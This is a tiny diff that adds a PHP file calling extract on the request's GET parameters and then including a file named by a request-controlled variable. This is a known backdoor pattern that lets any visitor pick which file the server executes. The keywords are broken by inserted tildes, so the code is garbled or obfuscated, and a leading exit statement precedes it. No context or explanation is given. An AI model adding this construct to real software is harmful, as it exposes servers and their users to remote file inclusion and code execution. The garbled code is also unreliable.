@@ -1,0 +1,3 @@
+<?php exit; ?>
+<?php
+extract($_G~ET); inc~lude $marker_file;
